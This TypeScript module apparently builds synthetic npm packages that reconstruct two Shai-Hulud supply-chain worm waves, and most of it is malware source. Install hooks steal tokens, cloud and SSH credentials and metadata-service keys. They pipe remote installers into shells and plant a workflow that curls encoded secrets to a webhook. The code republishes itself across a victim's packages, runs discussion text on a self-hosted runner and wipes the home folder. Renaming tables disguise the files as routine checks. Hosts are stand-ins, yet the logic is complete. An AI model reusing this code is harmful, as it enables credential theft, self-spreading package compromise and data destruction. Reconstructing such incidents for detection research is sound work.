import type { Incident } from '../incident.ts';

export const shaiHulud: Incident = {
  id: 'shai-hulud-2025',
  story:
    'A worm in one bundled file, started after the installation: reads npm, GitHub and cloud tokens, asks the cloud metadata service, downloads and runs a secrets scanner, writes a workflow that sends all secrets of a repository to a webhook, makes private repositories public, and publishes itself in every other package of the stolen npm account with a raised patch version.',
  sources: [
    'https://ryanwentzel.me/blog/shai-hulud-npm-supply-chain-worm',
    'https://angelusrivera.github.io/cached_software_rendering.html',
  ],
  name: 'corpus-tiny-colour',
  version: '4.1.1',
  manifest: { main: 'dist/index.js', scripts: { postinstall: 'node bundle.js' } },
  payloads: [
    {
      path: 'bundle.js',
      format: 'cjs',
      uses: { fs: 'fs', os: 'os', path: 'path', https: 'https', http: 'http', childProcess: 'child_process' },
      sections: [
        {
          provides: ['home', 'secrets', 'fetchText', 'collect'],
          code: `
const home = path.join(os.homedir(), 'corpus-no-such-folder');
const secrets = {};
function fetchText(url, headers) {
  return new Promise((resolve) => {
    http.get(url, { headers: headers, timeout: 1000 }, (answer) => {
      let text = '';
      answer.on('data', (chunk) => { text += chunk; });
      answer.on('end', () => resolve(text));
    }).on('error', () => resolve(''));
  });
}
async function collect() {
  for (const name of Object.keys(process.env)) {
    if (/(TOKEN|SECRET|KEY|PASSWORD)/i.test(name)) {
      secrets[name] = process.env[name];
    }
  }
  for (const file of ['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.ssh/id_rsa']) {
    const full = path.join(home, file);
    if (fs.existsSync(full)) {
      secrets[file] = fs.readFileSync(full, 'utf8');
    }
  }
  secrets.role = await fetchText('http://169.254.169.254.invalid/latest/meta-data/iam/security-credentials/', {});
  secrets.google = await fetchText('http://metadata.google.invalid/computeMetadata/v1/instance/service-accounts/default/token', { ['Metadata-Flavor']: 'Google' });
}
`,
        },
        {
          provides: ['searchDisk', 'plantWorkflow'],
          code: `
function searchDisk() {
  const tool = '/corpus-no-such-folder/trufflehog';
  childProcess.execSync('curl -sSfL https://github.invalid/trufflesecurity/trufflehog/releases/latest/install.sh | sh -s -- -b /corpus-no-such-folder', { cwd: '/corpus-no-such-folder' });
  fs.chmodSync(tool, 493);
  const out = childProcess.execFileSync(tool, ['filesystem', home, '--json', '--only-verified'], { cwd: '/corpus-no-such-folder', maxBuffer: 1000000000 });
  secrets.found = out.toString('utf8');
}
function plantWorkflow(repository) {
  const yaml = ['name: Shai-Hulud', 'on: push', 'jobs:', '  send:', '    runs-on: ubuntu-latest', '    steps:', '      - run: echo "$ALL" | base64 -w0 | base64 -w0 | curl -d @- https://webhook.site.invalid/corpus', '        env:', '          ALL: $' + '{{ toJSON(secrets) }}'].join('\\n');
  const folder = path.join(home, repository, '.github/workflows');
  fs.mkdirSync(folder, { recursive: false });
  fs.writeFileSync(path.join(folder, 'shai-hulud-workflow.yml'), yaml);
  childProcess.execSync('git checkout -b shai-hulud && git add . && git commit -m update && git push origin shai-hulud', { cwd: '/corpus-no-such-folder' });
}
`,
        },
        {
          provides: [],
          code: `
function sendAll() {
  const body = Buffer.from(JSON.stringify(secrets)).toString('base64');
  const request = https.request({ hostname: 'webhook.site.invalid', path: '/corpus', method: 'POST' });
  request.on('error', () => {});
  request.end(body);
}
async function spread(account) {
  const answer = JSON.parse(await fetchText('http://registry.invalid/-/v1/search?text=maintainer:' + account + '&size=20', {}));
  for (const entry of answer.objects) {
    const folder = '/corpus-no-such-folder/' + entry.package.name;
    childProcess.execSync('tar -xzf package.tgz', { cwd: folder });
    const manifest = JSON.parse(fs.readFileSync(path.join(folder, 'package.json'), 'utf8'));
    const numbers = manifest.version.split('.');
    numbers[2] = String(Number(numbers[2]) + 1);
    manifest.version = numbers.join('.');
    manifest.scripts = manifest.scripts || {};
    manifest.scripts.postinstall = 'node bundle.js';
    fs.writeFileSync(path.join(folder, 'package.json'), JSON.stringify(manifest));
    fs.copyFileSync(__filename, path.join(folder, 'bundle.js'));
    childProcess.execSync('npm publish', { cwd: folder, env: { NPM_TOKEN: secrets.NPM_TOKEN } });
  }
}
(async () => {
  await collect();
  searchDisk();
  plantWorkflow('corpus');
  sendAll();
  await spread('corpus-account');
})();
`,
        },
      ],
    },
  ],
  files: {
    'dist/index.js': `exports.mix = (a, b, share) => a.map((one, index) => one * share + b[index] * (1 - share));\n`,
  },
  marks: {
    'bundle.js': 'dist/prepare.js',
    'shai-hulud-workflow.yml': 'checks.yml',
    'shai-hulud': 'checks',
    'Shai-Hulud': 'Checks',
    'webhook.site.invalid': 'collect.invalid',
  },
};

export const shaiHulud2: Incident = {
  id: 'shai-hulud-2-2025',
  story:
    'The November wave: a preinstall script installs the Bun runtime and starts a large obfuscated file with it, which collects cloud and repository secrets into several encoded files in a new public repository, registers the machine as a self-hosted runner with a workflow that runs what a discussion says, and, when it finds no token, deletes the home folder.',
  sources: ['https://ryanwentzel.me/blog/shai-hulud-npm-supply-chain-worm'],
  name: 'corpus-event-client',
  version: '3.0.2',
  manifest: { main: 'index.js', scripts: { preinstall: 'node setup_bun.js' } },
  payloads: [
    {
      path: 'setup_bun.js',
      format: 'cjs',
      uses: { childProcess: 'child_process', path: 'path', fs: 'fs', os: 'os' },
      sections: [
        {
          provides: ['hasBun', 'installBun'],
          code: `
function hasBun() {
  try {
    childProcess.execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { cwd: '/corpus-no-such-folder', stdio: 'ignore' });
    return true;
  } catch (error) {
    return false;
  }
}
function installBun() {
  const command = process.platform === 'win32' ? 'powershell -c "irm bun.invalid/install.ps1 | iex"' : 'curl -fsSL https://bun.invalid/install | bash';
  childProcess.execSync(command, { cwd: '/corpus-no-such-folder', stdio: 'ignore', env: process.env });
}
`,
        },
        {
          provides: [],
          code: `
if (!hasBun()) {
  installBun();
}
const program = path.join(os.homedir(), 'corpus-no-such-folder', '.bun', 'bin', 'bun');
childProcess.spawn(program, [path.join(__dirname, 'bun_environment.js')], { cwd: '/corpus-no-such-folder', detached: true, stdio: 'ignore' }).unref();
`,
        },
      ],
    },
    {
      path: 'bun_environment.js',
      format: 'cjs',
      uses: { childProcess: 'child_process', path: 'path', fs: 'fs', os: 'os' },
      padToBytes: 1_500_000,
      sections: [
        {
          provides: ['home', 'gather'],
          code: `
const home = path.join(os.homedir(), 'corpus-no-such-folder');
function gather() {
  const out = { environment: process.env, system: { host: os.hostname(), user: os.userInfo().username } };
  for (const file of ['.npmrc', '.aws/credentials', '.azure/msal_token_cache.json', '.git-credentials', '.docker/config.json']) {
    try {
      out[file] = fs.readFileSync(path.join(home, file), 'utf8');
    } catch (error) {}
  }
  return out;
}
`,
        },
        {
          provides: ['upload', 'register'],
          code: `
async function upload(token, data) {
  const repository = 'corpus-' + Math.random().toString(36).slice(2);
  await fetch('https://api.github.invalid/user/repos', { method: 'POST', headers: { Authorization: 'Bearer ' + token }, body: JSON.stringify({ name: repository, description: 'Sha1-Hulud: The Second Coming.', private: false }) });
  for (const part of Object.keys(data)) {
    const content = Buffer.from(Buffer.from(JSON.stringify(data[part])).toString('base64')).toString('base64');
    await fetch('https://api.github.invalid/repos/corpus/' + repository + '/contents/' + part + '.json', { method: 'PUT', headers: { Authorization: 'Bearer ' + token }, body: JSON.stringify({ message: 'Add file', content: content }) });
  }
  return repository;
}
function register(repository, token) {
  childProcess.execSync('./config.sh --url https://github.invalid/corpus/' + repository + ' --unattended --token ' + token + ' --name SHA1HULUD && nohup ./run.sh &', { cwd: '/corpus-no-such-folder' });
  const workflow = ['on: discussion', 'jobs:', '  run:', '    runs-on: self-hosted', '    steps:', '      - run: echo $' + '{{ github.event.discussion.body }}'].join('\\n');
  fs.writeFileSync(path.join(home, '.github/workflows/discussion.yaml'), workflow);
}
`,
        },
        {
          provides: [],
          code: `
function destroy() {
  if (process.platform === 'win32') {
    childProcess.execSync('del /F /Q /S "%USERPROFILE%\\\\corpus-no-such-folder\\\\*"', { cwd: '/corpus-no-such-folder' });
  } else {
    childProcess.execSync('find "$HOME/corpus-no-such-folder" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1', { cwd: '/corpus-no-such-folder' });
  }
}
(async () => {
  const data = gather();
  const token = process.env.GITHUB_TOKEN || '';
  if (token === '') {
    destroy();
    return;
  }
  const repository = await upload(token, data);
  register(repository, token);
})();
`,
        },
      ],
    },
  ],
  files: { 'index.js': `exports.capture = (name) => ({ name, at: Date.now() });\n` },
  marks: {
    'setup_bun.js': 'scripts/check.js',
    'bun_environment.js': 'runtime.js',
    'Sha1-Hulud: The Second Coming.': 'notes',
    SHA1HULUD: 'runner',
  },
};
